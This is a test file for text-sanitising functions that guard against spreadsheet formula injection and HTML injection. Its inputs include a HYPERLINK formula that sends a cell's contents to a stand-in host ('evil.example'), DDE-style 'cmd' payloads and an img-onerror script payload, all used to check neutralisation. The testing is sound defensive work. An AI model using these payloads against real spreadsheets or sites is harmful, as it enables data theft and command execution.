import { cleanText, escapeHtml, neutraliseFormula, TRUNCATION_MARKER } from '../../src/domain/text';

describe('neutraliseFormula (OWASP CSV injection: = + - @ tab CR LF)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?d="&A1,"Clic")'],
    ['+51 987 654 321'],
    ['-2+3+cmd|\' /C calc\'!A0'],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\n=1+1'],
  ])('prefixes %j with an apostrophe so Sheets keeps it as text', (hostile) => {
    const safe = neutraliseFormula(hostile);
    expect(safe).toBe("'" + hostile);
    // Sheets strips exactly one leading apostrophe when storing: what remains is the original text.
    expect(safe.slice(1)).toBe(hostile);
  });

  it.each(['María José Ñahui', "D'Onofrio", 'ana@gmail.com', '01234567', ' =no empieza con igual', ''])(
    'leaves ordinary text %j unchanged',
    (v) => expect(neutraliseFormula(v)).toBe(v),
  );
});

describe('cleanText', () => {
  it('trims and collapses whitespace, tabs, line breaks and NBSP to single spaces', () => {
    expect(cleanText('  María\u00a0José \t\r\n Ñahui   Huamán  ')).toBe('María José Ñahui Huamán');
  });

  it('keeps accents, ñ, ü and apostrophes (straight and curly) as typed', () => {
    expect(cleanText("José Ángel D'Onofrio Güemes O’Higgins Ñuñez")).toBe("José Ángel D'Onofrio Güemes O’Higgins Ñuñez");
  });

  it('composes decomposed accents (Mac keyboards) so equal names compare equal', () => {
    const decomposed = 'Jose\u0301 Pen\u0303a';
    expect(cleanText(decomposed)).toBe('José Peña');
    expect(cleanText(decomposed)).toBe(cleanText('José Peña'));
  });

  it('removes control characters and invisible zero-width characters', () => {
    expect(cleanText('\u0000Ana\u0007 Lu\u200bcía\ufeff\u0085')).toBe('Ana Lucía');
  });

  it('turns non-strings into text and null/undefined into an empty string', () => {
    expect(cleanText(null)).toBe('');
    expect(cleanText(undefined)).toBe('');
    expect(cleanText(12345678)).toBe('12345678');
    expect(cleanText(true)).toBe('true');
  });

  it('cuts overly long values with a visible marker, never longer than the limit', () => {
    const long = 'a'.repeat(1000);
    const cut = cleanText(long);
    expect(cut.length).toBe(500);
    expect(cut.endsWith(TRUNCATION_MARKER)).toBe(true);
    expect(cleanText('abcdefghij', 5)).toBe('abcd…');
    expect(cleanText('abcde', 5)).toBe('abcde');
  });

  it('does not split an emoji (surrogate pair) when cutting', () => {
    const cut = cleanText('abc😀😀😀', 5);
    expect(cut).toBe('abc…');
    expect(/[\ud800-\udbff]$/.test(cut.slice(0, -1))).toBe(false);
  });

  it('keeps a leading = (neutralisation happens when writing, not here)', () => {
    expect(cleanText('=HYPERLINK("x")')).toBe('=HYPERLINK("x")');
  });
});

describe('escapeHtml', () => {
  it('escapes & < > " and \'', () => {
    expect(escapeHtml(`<img src=x onerror="alert('x')"> & más`)).toBe(
      '&lt;img src=x onerror=&quot;alert(&#39;x&#39;)&quot;&gt; &amp; más',
    );
  });
  it('leaves accents and ñ alone', () => {
    expect(escapeHtml('Ñahui Huamán')).toBe('Ñahui Huamán');
  });
});
